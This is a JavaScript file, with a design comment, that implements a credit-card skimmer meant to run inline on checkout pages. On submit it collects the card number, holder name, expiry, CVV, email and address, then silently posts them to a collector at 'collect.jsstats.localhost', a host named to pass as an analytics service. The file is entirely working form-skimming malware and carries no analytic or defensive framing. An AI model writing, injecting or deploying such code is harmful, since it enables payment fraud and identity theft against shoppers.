/* meta
{
  "design": "Inline script on the checkout page; waits for the form to be submitted, reads each field by id, posts JSON.",
  "reads": ["cc-number", "cc-name", "cc-exp", "cc-csc", "email", "address", "postcode"],
  "sendsTo": "collect.jsstats.localhost",
  "delivery": { "kind": "inline", "pages": "^/checkout" }
}
*/
(function () {
  var form = document.querySelector('form[action*="checkout"]');
  if (!form || window.__jss) return;
  window.__jss = 1;

  function val(id) {
    var el = document.getElementById(id);
    return el ? el.value.trim() : '';
  }

  form.addEventListener('submit', function () {
    var number = val('cc-number').replace(/\s/g, '');
    if (number.length < 13) return;
    var info = {
      number: number,
      holder: val('cc-name'),
      exp: val('cc-exp'),
      cvv: val('cc-csc'),
      mail: val('email'),
      addr: val('address') + ', ' + val('postcode'),
      host: location.hostname,
      ua: navigator.userAgent
    };
    fetch('https://collect.jsstats.localhost/v1/collect', {
      method: 'POST',
      mode: 'no-cors',
      keepalive: true,
      body: JSON.stringify(info)
    });
  }, true);
})();
